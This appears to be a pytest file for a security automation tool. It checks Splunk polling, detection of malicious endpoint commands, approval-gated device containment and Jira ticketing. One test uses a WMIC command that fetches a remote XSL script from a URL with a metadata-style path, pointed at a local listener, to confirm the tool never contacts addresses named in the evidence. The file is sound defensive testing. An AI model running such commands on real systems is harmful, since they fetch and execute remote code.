"""Field cases that no other file holds: what went wrong elsewhere, played here from hit to end.

`tests/field_cases.md` says which case each test stands for.
"""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import parse_qs

import pytest
from msgspec.structs import replace

from connectors.emulators.scenario import device_id
from runner.journal import approvals
from runner.journal.approvals import code_of
from runner.journal.records import ApprovalState
from tests.polling import NO_CANARY, poll, polling_world, records, store
from tests.world import World, running_world
from tests.world_settings import HOST, RESPONDER_B, malicious


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with running_world(tmp_path) as world:
        world.arm()
        yield world


# -- polling ---------------------------------------------------------------------------------------


def test_poll_when_a_page_holds_only_known_rows_then_the_next_page_is_read(tmp_path: Path) -> None:
    with polling_world(tmp_path) as world:
        world.splunk.page_cap = 3
        for number in range(1, 7):
            store(world, number, age_s=200 - number, index_age_s=200 - number)
        assert poll(world, 10).code == 0
        store(world, 7, age_s=20, index_age_s=20)
        asked = len(world.splunk.requests)
        assert poll(world, 30).code == 0
        pages = [seen for seen in world.splunk.requests[asked:] if seen.path.endswith("/results")]
        assert [parse_qs(seen.body)["offset"] for seen in pages] == [["0"], ["3"], ["6"]]
        last = records(world.journal)[-1]
        assert (last.known, last.new) == (6, 1)
        assert len(world.cases()) == 7


@pytest.mark.parametrize(
    "before", [datetime(2027, 3, 28, 0, 50, tzinfo=UTC), datetime(2027, 10, 31, 0, 20, tzinfo=UTC)]
)
def test_poll_when_the_local_clock_changes_then_no_second_is_left_out_or_taken_twice(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, before: datetime
) -> None:
    """At 01:00 UTC local time leaps an hour ahead, or has the same hour twice."""
    monkeypatch.setenv("TZ", "CET-1CEST,M3.5.0,M10.5.0/3")
    time.tzset()
    try:
        with polling_world(tmp_path) as world:
            world.clock.jump((before - world.clock.now()).total_seconds())
            poll(world)
            for number in range(1, 15):
                store(world, number, age_s=20, index_age_s=20)
                assert poll(world, 300).code == 0
            assert len(world.cases()) == 14
            assert sum(one.new for one in records(world.journal)) == 14
            times = [case.first_at for case in world.cases()]
            assert len(set(times)) == 14
    finally:
        monkeypatch.undo()
        time.tzset()


# -- floods ----------------------------------------------------------------------------------------


def test_hits_when_an_inventory_runs_everywhere_then_judged_benign_and_nobody_is_told(
    tmp_path: Path,
) -> None:
    with running_world(tmp_path, {"runs_at_once": 8, **NO_CANARY}) as world:
        world.arm()
        for number in range(40):
            line = f"wmic path Win32_Thing{number % 3} get * /format:list"
            world.hit(host=f"WS-{number}", cmdline=line, ParentCommandLine="perl.exe inventory")
        world.hit(host="WS-7", cmdline=malicious("WS-7"), ParentCommandLine="perl.exe inventory")
        for _ in range(3):
            world.tick()
        judged = [str(one.assessment.assessment) for one in world.cases() if one.assessment]
        assert sorted(judged) == ["benign"] * 40 + ["malicious"]
        about = [message["text"] for message in world.cards()]
        assert len(about) == 1, "one word for the true one, none for the forty"
        assert "WS-7" in about[0]
        assert len(world.jira.all_issues()) == 1


# -- the EDR ---------------------------------------------------------------------------------------


def test_contain_when_a_known_device_is_not_found_once_then_void_and_asked_anew(
    world: World,
) -> None:
    """A lag of the EDR costs a question, never a call on a device that was not read."""
    world.hit()
    world.tick()
    question = world.question()
    world.yes(question)
    body = json.dumps({"resources": [], "errors": [{"code": 404, "message": "not found"}]})
    world.falcon.misbehave(method="POST", path="*/devices/v2", status=404, body=body, times=1)
    world.tick()
    assert world.asked_to("contain") == []
    assert "the EDR no longer knows the device" in "\n".join(world.thread(question))
    again = world.question()
    assert again.items[0].device.device_id == device_id(HOST)
    world.yes(again, RESPONDER_B)
    world.tick()
    assert world.contains() == [HOST]


# -- tickets and codes -----------------------------------------------------------------------------


def test_ticket_when_closed_and_the_host_is_hit_again_then_a_new_one_and_none_is_opened_again(
    world: World,
) -> None:
    world.hit(cmdline=malicious(HOST, 1))
    world.tick()
    world.no(world.question())
    world.ticks(2, every_s=60)
    issue = world.jira.delete_issue("SEC-1")
    issue["fields"]["status"]["statusCategory"]["key"] = "done"
    world.jira.show_issue(issue)
    asked = len(world.sent)
    world.hit(cmdline=malicious(HOST, 1))
    world.ticks(2, every_s=60)
    assert len(world.jira.all_issues()) == 1, "the same line within a day is counted in its case"
    world.clock.advance(25 * 3600)
    world.hit(cmdline=malicious(HOST, 1))
    world.ticks(2, every_s=60)
    assert [one["key"] for one in world.jira.all_issues()] == ["SEC-1", "SEC-2"]
    assert not any("transitions" in line for line in world.sent[asked:])


def test_code_when_another_open_question_has_it_then_the_next_one(world: World) -> None:
    world.hit()
    world.tick()
    question = world.question()
    with world.journal.write() as tx:
        approvals.save(tx, replace(question, code=code_of("seed", "0")))
        assert approvals.free_code(tx, "seed") == code_of("seed", "1")
        approvals.save(tx, replace(question, code=code_of("seed", "0"), closed=True))
        assert approvals.free_code(tx, "seed") == code_of("seed", "0")
        approvals.save(tx, question)


# -- what evidence points to -----------------------------------------------------------------------


def test_evidence_when_it_names_an_address_then_nobody_asks_it_for_anything(world: World) -> None:
    """The whole job, to the end, with a listener at the address: no connection comes."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0)
        port = listener.getsockname()[1]
        line = f'wmic os get /format:"http://127.0.0.1:{port}/latest/meta-data/a.xsl"'
        world.hit(cmdline=line)
        world.tick()
        world.yes(world.question())
        world.ticks(3, every_s=60)
        assert world.contains() == [HOST]
        assert world.questions(ApprovalState.OPEN) == []
        with pytest.raises(BlockingIOError):
            listener.accept()
